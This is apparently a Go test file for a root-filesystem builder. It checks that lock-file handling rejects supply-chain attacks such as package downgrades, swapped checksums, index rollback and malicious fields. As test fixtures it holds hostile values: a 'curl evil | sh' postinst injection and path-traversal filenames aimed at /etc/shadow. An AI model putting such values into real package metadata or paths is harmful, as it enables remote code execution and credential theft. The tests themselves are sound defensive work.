package attacks_test

import (
	"strings"
	"testing"
	"time"

	"github.com/rootfsd/rootfsd/apk"
	"github.com/rootfsd/rootfsd/deb"
	"github.com/rootfsd/rootfsd/deb/debtest"
	"github.com/rootfsd/rootfsd/repo"
	"github.com/rootfsd/rootfsd/repo/fstree"
	"github.com/rootfsd/rootfsd/store"
)

// lockFrom resolves req on e and returns the lock as `rootfsd lock`
// writes it and `rootfsd build --lock` reads it back.
func lockFrom(t *testing.T, e *debEnv, req repo.Request) *repo.Lock {
	t.Helper()
	plan, err := e.backend().Resolve(ctx(t), req)
	if err != nil {
		t.Fatal(err)
	}
	return reparse(t, repo.NewLock(req, plan))
}

func reparse(t *testing.T, l *repo.Lock) *repo.Lock {
	t.Helper()
	data, err := l.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	out, err := repo.ParseLock(data)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// buildFromLock is a build from a lock: CheckLock against the signed
// indexes, then fetch and unpack exactly the locked packages.
func buildFromLock(t *testing.T, e *debEnv, l *repo.Lock) (*deb.LockCheck, *fstree.Tree, error) {
	t.Helper()
	lc, err := e.backend().CheckLock(ctx(t), l)
	if err != nil {
		return nil, nil, err
	}
	tree, err := e.install(t, l.Packages)
	return lc, tree, err
}

// pool keeps the package files of a snapshot: what a mirror still serves
// of older versions after the indexes moved on.
func pool(files map[string][]byte) map[string][]byte {
	out := map[string][]byte{}
	for p, b := range files {
		if strings.HasPrefix(p, "pool/") {
			out[p] = b
		}
	}
	return out
}

// TestAttackLock: what a lock guarantees. The lock is the trust anchor
// for versions the indexes no longer list; for versions they do list, the
// signed index must agree with it.
func TestAttackLock(t *testing.T) {
	oldSnap := buildSnap(t, snapSpec{date: oldDate, pkgs: oldPkgs()})
	newSnap := buildSnap(t, snapSpec{date: newDate, pkgs: newPkgs()})
	moved := merge(pool(oldSnap.files), newSnap.files)
	evil := debtest.MakeDeb(t, debtest.Deb{Package: "hello", Version: "2.0-1", Compression: ".gz",
		Data: files("./usr/", "./usr/bin/", "./usr/bin/hello", "#!/bin/sh\necho pwned!!\n")})
	runAttacks(t, "lock", []attack{
		{class: "downgrade through a lock", name: "lock pins hello 1.0-1 after the mirror moved to 2.0-1", defence: "pinning is legitimate: superseded versions stand on the lock's SHA256",
			run: func(t *testing.T) (string, error) {
				e := newDebEnv(t, oldSnap.files)
				e.clock = oldDate.Add(time.Hour)
				l := lockFrom(t, e, debRequest("hello"))
				e.origin.SetFiles(moved)
				e.clock = newClock
				lc, tree, err := buildFromLock(t, e, l)
				if err != nil {
					return "", err
				}
				if len(lc.Superseded) != 2 || len(lc.Confirmed) != 0 {
					t.Errorf("check: %+v", lc)
				}
				if got := readTree(t, tree, "usr/bin/hello"); got != "#!/bin/sh\necho hello 1.0\n" {
					t.Errorf("installed hello is %q, not the locked one", got)
				}
				return "accepted: " + strings.Join(lc.Superseded, ", ") + " superseded, installed and verified by the lock's SHA256", nil
			}},
		{class: "downgrade through a lock", name: "lock's hello SHA256 and size swapped for an evil .deb the mirror serves", defence: "CheckLock: a version the signed index lists must match it",
			want: []error{deb.ErrLockMismatch}, text: "hello=2.0-1/amd64",
			run: func(t *testing.T) (string, error) {
				e := newDebEnv(t, newSnap.files)
				l := lockFrom(t, e, debRequest("hello"))
				h := l.Find("hello")
				h.SHA256, h.Size = debtest.Sum(evil), int64(len(evil))
				e.proxy.on(helloDeb, replace(evil))
				_, _, err := buildFromLock(t, e, reparse(t, l))
				return "", err
			}},
		{class: "downgrade through a lock", name: "lock's SHA256 edited, the mirror serves the real file", defence: "FetchPackage verifies the lock's Size and SHA256",
			want: []error{store.ErrDigestMismatch}, text: "hello",
			run: func(t *testing.T) (string, error) {
				e := newDebEnv(t, newSnap.files)
				l := lockFrom(t, e, debRequest("hello"))
				l.Find("hello").SHA256 = strings.Repeat("ab", 32)
				_, err := e.install(t, reparse(t, l).Packages)
				return "", err
			}},
		{class: "downgrade through a lock", name: "lock made from newer indexes than the mirror serves, fresh cache", defence: "CheckLock: index dates in the lock are a rollback floor",
			want: []error{deb.ErrRollback}, text: "the lock was made from 2026-01-11",
			run: func(t *testing.T) (string, error) {
				l := lockFrom(t, newDebEnv(t, newSnap.files), debRequest("hello"))
				e := newDebEnv(t, merge(pool(newSnap.files), oldSnap.files)) // another machine, empty cache
				for i := range l.Indexes {
					l.Indexes[i].URL = e.proxy.URL
				}
				_, _, err := buildFromLock(t, e, reparse(t, l))
				return "", err
			}},
		{class: "malicious field", name: "lock filename with ..", defence: "ParseLock: filenames are clean relative paths",
			text: "must be a relative path without", as: anyError,
			run: func(t *testing.T) (string, error) {
				l := lockFrom(t, newDebEnv(t, newSnap.files), debRequest("hello"))
				l.Find("hello").Filename = "pool/../../../etc/shadow"
				data, _ := l.Marshal()
				_, err := repo.ParseLock(data)
				return "", err
			}},
		{class: "malicious field", name: "planned filename with .. that bypasses ParseLock (API plan)", defence: "FetchPackage checks every planned package before a request",
			want: []error{deb.ErrPlannedPackage}, text: "not a clean relative path",
			run: func(t *testing.T) (string, error) {
				e := newDebEnv(t, newSnap.files)
				l := lockFrom(t, e, debRequest("hello"))
				l.Find("hello").Filename = "../../../etc/shadow"
				_, err := e.install(t, l.Packages)
				return "", err
			}},
		{class: "malicious field", name: "lock with an unknown field", defence: "ParseLock refuses unknown fields",
			text: "unknown field", as: anyError,
			run: func(t *testing.T) (string, error) {
				l := lockFrom(t, newDebEnv(t, newSnap.files), debRequest("hello"))
				data, _ := l.Marshal()
				_, err := repo.ParseLock([]byte(strings.Replace(string(data), `"lockVersion": 1,`, `"lockVersion": 1, "postinst": "curl evil | sh",`, 1)))
				return "", err
			}},
		{class: "downgrade through a lock", name: "apk lock with musl's C: edited", defence: "the .apk must match the lock's C: and a trusted signature",
			want: []error{apk.ErrChecksum}, text: "control member",
			run: func(t *testing.T) (string, error) {
				e := newAPKEnvReal(t)
				l := apkLock(t, e, "musl")
				l.Find("musl").Checksum = "Q1" + strings.Repeat("A", 27) + "="
				_, err := e.b.FetchPackage(ctx(t), *reparse(t, l).Find("musl"))
				return "", err
			}},
		{class: "downgrade through a lock", name: "apk lock names zlib's file, size and C: as musl", defence: ".PKGINFO must name the locked package and version",
			want: []error{apk.ErrChecksum}, text: ".PKGINFO names zlib",
			run: func(t *testing.T) (string, error) {
				e := newAPKEnvReal(t)
				l := apkLock(t, e, "musl", "zlib")
				m, z := l.Find("musl"), l.Find("zlib")
				m.Filename, m.Size, m.Checksum = z.Filename, z.Size, z.Checksum
				_, err := e.b.FetchPackage(ctx(t), *reparse(t, l).Find("musl"))
				return "", err
			}},
	})
}

// apkLock resolves pkgs on the real fixtures and returns the lock.
func apkLock(t *testing.T, e *apkEnv, pkgs ...string) *repo.Lock {
	req := apkRequest(pkgs...)
	plan, err := e.b.Resolve(ctx(t), req)
	if err != nil {
		t.Fatal(err)
	}
	return reparse(t, repo.NewLock(req, plan))
}
